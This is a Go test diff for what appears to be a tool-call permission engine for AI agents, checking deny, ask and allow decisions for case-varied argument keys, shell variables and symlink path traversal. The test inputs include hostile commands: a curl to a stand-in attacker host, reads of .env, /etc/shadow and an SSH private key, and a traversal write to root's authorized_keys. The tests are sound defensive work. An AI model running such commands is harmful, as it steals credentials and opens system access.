@@ -212,6 +212,8 @@ func TestDecisions(t *testing.T) {
 		"secret path":                {"", []string{"rules: [{name: a, when: \"paths.exists(p, p.secret)\", action: deny}]"}, bash("cat .env"), message.Deny, "p0/a"},
 		"network":                    {"", []string{"rules: [{name: a, when: \"'evil.example' in net.hosts\", action: deny}]"}, bash("curl https://evil.example/x"), message.Deny, "p0/a"},
 		"url in arguments":           {"", []string{"rules: [{name: a, when: \"net.hosts.exists(h, h == 'evil.example') && 8443 in net.ports\", action: deny}]"}, call("free", map[string]any{"u": []any{"https://EVIL.example:8443/"}}), message.Deny, "p0/a"},
+		"case of an argument":        {"a program that ignores case reads the other one", nil, call("read", map[string]any{"path": "a", "Path": "/etc/shadow"}), message.Deny, "default/error"},
+		"case alone":                 {"", nil, call("write", map[string]any{"PATH": "/etc/x", "content": ""}), message.Deny, "default/error"},
 		"arguments no object":        {"", nil, message.ToolCall{Tool: "read", Args: json.RawMessage("[]")}, message.Deny, "default/error"},
 	}
 	for name, tc := range tests {
@@ -278,6 +280,9 @@ func TestConformance(t *testing.T) {
 		"a pattern set that is empty": {list(entry("bash", "git status", "allow")), bash("git log -- x"), message.Ask},
 		"dynamic under an allow":      {list(entry("bash", "git *", "allow")), bash("git log; $x"), message.Ask},
 		"dynamic under a deny":        {list(entry("bash", "*", "allow"), entry("bash", "rm *", "deny")), bash("$x"), message.Ask},
+		"dynamic may leave":           {list(entry("bash", "*", "allow")), bash("x=~/.ssh; cat $x/id_rsa"), message.Ask},
+		"dynamic anywhere":            {list(entry("bash", "*", "allow"), entry("external_directory", "*", "allow")), bash("cat $x"), message.Allow},
+		"dynamic and a denied file":   {list(entry("bash", "*", "allow"), entry("external_directory", "*", "allow"), entry("read", "*.env", "deny")), bash("cat $x"), message.Ask},
 		"dynamic and certain":         {list(entry("bash", "*", "allow"), entry("bash", "rm *", "deny")), bash("rm x; $x"), message.Deny},
 		"dots in a path":              {list(entry("write", "/home/user/safe/*", "allow"), entry("external_directory", "/home/user/safe/*", "allow")), call("write", map[string]any{"path": "/home/user/safe/../../root/.ssh/authorized_keys", "content": ""}), message.Ask},
 		"a safe path":                 {list(entry("write", "/home/user/safe/*", "allow"), entry("external_directory", "/home/user/safe/*", "allow")), call("write", map[string]any{"path": "/home/user/safe/x", "content": ""}), message.Allow},
@@ -316,6 +321,28 @@ func TestLinksAreFollowed(t *testing.T) {
 		if d := decide(t, e, call("write", map[string]any{"path": path, "content": ""})); d.Action != want {
 			t.Errorf("%s: got %s, want %s", path, d.Action, want)
 		}
+	}
+}
+
+func TestDotsBehindLinksInScripts(t *testing.T) {
+	e := engine(t, "rules: [{name: stay, when: \"paths.exists(p, !p.inWorkspace)\", action: deny}, {name: ok, match: {tools: [bash]}, action: allow}]")
+	root := e.context.Workspace.Root
+	if err := os.MkdirAll(filepath.Join(root, "a"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(t.TempDir(), filepath.Join(root, "a", "out")); err != nil {
+		t.Fatal(err)
+	}
+	for script, want := range map[string]message.Action{
+		"cat a/out/../x": message.Deny, "cd a; cat out/../x": message.Deny, "cd a/out; cat ../x": message.Deny, "cd a; cat ../x": message.Allow,
+		"cd a/out/..; cat x": message.Allow, "cat a/../../x": message.Deny, "foo ../x": message.Deny, "cd a; foo ../../x": message.Deny, "tool a/out/x": message.Deny, "tool a/x build": message.Allow, "tool --out=/x": message.Deny,
+	} {
+		if d := decide(t, e, bash(script)); d.Action != want {
+			t.Errorf("%s: got %s (%s), want %s", script, d.Action, d.Facts, want)
+		}
+	}
+	if d := decide(t, e, message.ToolCall{Tool: "bash", Args: json.RawMessage(`{"command":"cat ../x","workdir":"a/out"}`)}); d.Action != message.Deny {
+		t.Errorf("workdir behind a link: got %s", d.Action)
 	}
 }
 
